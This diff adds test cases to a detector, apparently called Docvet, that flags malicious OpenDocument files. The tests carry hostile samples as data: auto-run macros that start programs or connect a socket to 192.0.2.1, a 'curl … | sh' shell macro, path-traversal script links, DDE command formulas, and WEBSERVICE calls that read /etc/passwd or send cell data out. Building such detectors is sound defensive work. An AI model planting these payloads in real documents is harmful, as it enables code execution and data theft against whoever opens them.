@@ -54,6 +54,10 @@ suite('a macro that starts a program', () => {
       'import subprocess as s\ndef main(*a):\n  getattr(s, "Po" + "pen")(["calc"])\n',
       'import os\ndef main(*a):\n  getattr(os, "sys" + "tem")("calc")\n',
       'from os import system as s\ndef main(*a):\n  s("calc")\n',
+      'import os as o\ndef main(*a):\n  o.system("calc")\n',
+      'from ctypes import windll\ndef main(*a):\n  windll.kernel32.VirtualAlloc(0)\n',
+      'from socket import socket as s\ndef main(*a):\n  s().connect(("192.0.2.1", 4444))\n',
+      'def main(*a):\n  x = ctx.ServiceManager.createInstance("com.sun.star.system.SystemShellExecute")\n  x.execute("cmd.exe", "/c calc", 0)\n',
     ])
       assert.deepEqual(accused(idsOf(event('dom:load', 'a.py$main'), { 'Scripts/python/a.py': source })), [
         'Docvet.Odf.AutoMacro',
@@ -74,6 +78,44 @@ suite('a macro that starts a program', () => {
     assert.deepEqual(accused(inspector.inspect(Buffer.from(flat)).findings.map(({ id }) => id)), [
       'Docvet.Odf.AutoMacro',
     ])
+  })
+  test('in a flat file in an archive is found as well', () => {
+    const flat = (
+      source: string,
+    ) => `<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">
+      <ooo:module ooo:name="M"><ooo:source-code>${source}</ooo:source-code></ooo:module>${event('dom:load')}</office:document>`
+    const zipped = (source: string) =>
+      inspector.inspect(writeZip([{ name: 'a.fodt', data: flat(source) }])).findings.map(({ id }) => id)
+    assert.deepEqual(accused(zipped(SHELL)), ['Docvet.Odf.AutoMacro'])
+    const piped =
+      'Sub Main\nShell(&quot;bash&quot;, 0, &quot;-c &apos;curl http://192.0.2.1/a | sh&apos;&quot;)\nEnd Sub'
+    assert.deepEqual(accused(zipped(piped)), ['Docvet.Odf.AutoMacro'])
+    assert.deepEqual(zipped('Sub Main\nMsgBox &quot;a&quot;\nEnd Sub'), ['Docvet.Odf.Macro'])
+  })
+  test('is found if the namespace is written with character references', () => {
+    const hidden = (source: string, colon: string, extra = '') => {
+      const content = `<office:document-content xmlns:office="urn${colon}oasis:names:tc:opendocument:xmlns:office:1.0">${extra}${event('dom:load')}</office:document-content>`
+      return accused(idsOf('', { ...basic(source), 'content.xml': content }))
+    }
+    for (const colon of ['&#58;', '&#x3a;', '&#X003A;'])
+      assert.deepEqual(hidden(SHELL, colon), ['Docvet.Odf.AutoMacro'], colon)
+    assert.deepEqual(hidden('Sub Main\nEnd Sub', '&#58;'), [])
+    assert.deepEqual(hidden('Sub Main\nEnd Sub', '&#58;', '<draw:image xlink:href="file://192.0.2.1/a"/>'), [
+      'Docvet.Office.CredentialLeak',
+    ])
+  })
+  test('in JavaScript or BeanShell on opening is malicious', () => {
+    for (const source of [
+      'new ProcessBuilder("calc").start()',
+      'Runtime.getRuntime().exec("calc")',
+      'x("SystemShell" + "Execute")',
+    ])
+      assert.deepEqual(
+        accused(idsOf(event('dom:load', 'L.a.bsh'), { 'Scripts/beanshell/L/a.bsh': source })),
+        ['Docvet.Odf.AutoMacro'],
+        source,
+      )
+    assert.deepEqual(accused(idsOf(event('dom:load', 'L.a.bsh'), { 'Scripts/beanshell/L/a.bsh': 'print("a");' })), [])
   })
   test('without an event is a notice', () => {
     assert.deepEqual(idsOf('', basic(SHELL)), ['Docvet.Odf.Macro'])
@@ -104,6 +146,7 @@ suite('a link', () => {
       'vnd.sun.star.script:LibreLogo/LibreLogo.py$run?language=Python&amp;location=share',
       'vnd.sun.star.expand:$BRAND_BASE_DIR/program/a',
       'vnd.sun.star.script:%2e%2e/%2e%2e/a.py$b?language=Python&amp;location=user',
+      'vnd.sun.star.script:..%5C..%2Fprogram/a.py$b?language=Python&amp;location=share',
     ])
       assert.ok(link(href).includes('Docvet.Odf.ScriptTraversal'), href)
   })
@@ -113,6 +156,15 @@ suite('a link', () => {
       'vnd.sun.star.script:lib|table.py$_sort?language=Python&amp;location=document',
     ])
       assert.ok(!link(href).includes('Docvet.Odf.ScriptTraversal'), href)
+  })
+  test('to a macro of the document counts as an event that needs a click', () => {
+    const href = 'vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document'
+    const button = (source: string) =>
+      accused(idsOf(`<form:button form:name="onload" xlink:href="${href}"/>`, basic(source)))
+    assert.deepEqual(link(href), [])
+    assert.deepEqual(button('Sub Main\nMsgBox &quot;a&quot;\nEnd Sub'), [])
+    assert.deepEqual(button(SHELL), ['Docvet.Odf.MacroStart'])
+    assert.deepEqual(link(href.replace('document', 'user')), ['Docvet.Link.Handler'])
   })
   test('to a page is a notice', () => {
     assert.deepEqual(idsOf('<text:a xlink:href="https://example.com/">a</text:a>'), ['Docvet.Office.ExternalLinks'])
@@ -130,7 +182,11 @@ test('DDE to a program is malicious, to a document a notice', () => {
   const cell = (formula: string): string[] => idsOf(`<table:table-cell table:formula="${formula}"/>`)
   assert.deepEqual(cell('of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)'), ['Docvet.Sheet.DdeCommand'])
   assert.deepEqual(cell('of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)'), ['Docvet.Sheet.DdeFeed'])
+  assert.deepEqual(cell('oooc:=cmd|&apos;/c calc&apos;!A0'), ['Docvet.Sheet.DdeCommand'])
   assert.deepEqual(cell('of:=SUM([.A1:.A2])'), [])
+  assert.deepEqual(cell('of:=COM.MICROSOFT.WEBSERVICE(&quot;file:///etc/passwd&quot;)'), ['Docvet.Sheet.RemoteFormula'])
+  assert.deepEqual(cell('of:=WEBSERVICE(&quot;http://192.0.2.1/?&quot;&amp;[.A1])'), ['Docvet.Sheet.RemoteFormula'])
+  assert.deepEqual(cell('of:=WEBSERVICE(&quot;https://example.com/rates&quot;)'), [])
 })
 
 test('objects and sections from servers are suspicious, pictures from the web a notice', () => {
@@ -138,6 +194,10 @@ test('objects and sections from servers are suspicious, pictures from the web a 
   assert.deepEqual(loaded('text:section-source', 'https://example.com/a.odt'), ['Docvet.Odf.RemoteObject'])
   assert.deepEqual(loaded('draw:object', 'http://192.0.2.1/a.odt'), ['Docvet.Ooxml.RemoteObject'])
   assert.deepEqual(loaded('draw:object', 'http://192.0.2.1/a'), ['Docvet.Ooxml.RemoteObject'])
+  for (const name of 'section-source object object-ole table-source cell-range-source floating-frame plugin applet template'.split(
+    ' ',
+  ))
+    assert.deepEqual(loaded(`a:${name}`, 'https://example.com/a.odt'), ['Docvet.Odf.RemoteObject'], name)
   assert.deepEqual(loaded('draw:floating-frame', 'file://192.0.2.1/a'), ['Docvet.Office.CredentialLeak'])
   assert.deepEqual(loaded('draw:image', 'https://example.com/a.png'), ['Docvet.Ooxml.RemotePicture'])
   assert.deepEqual(loaded('draw:object', './Object 1'), [])
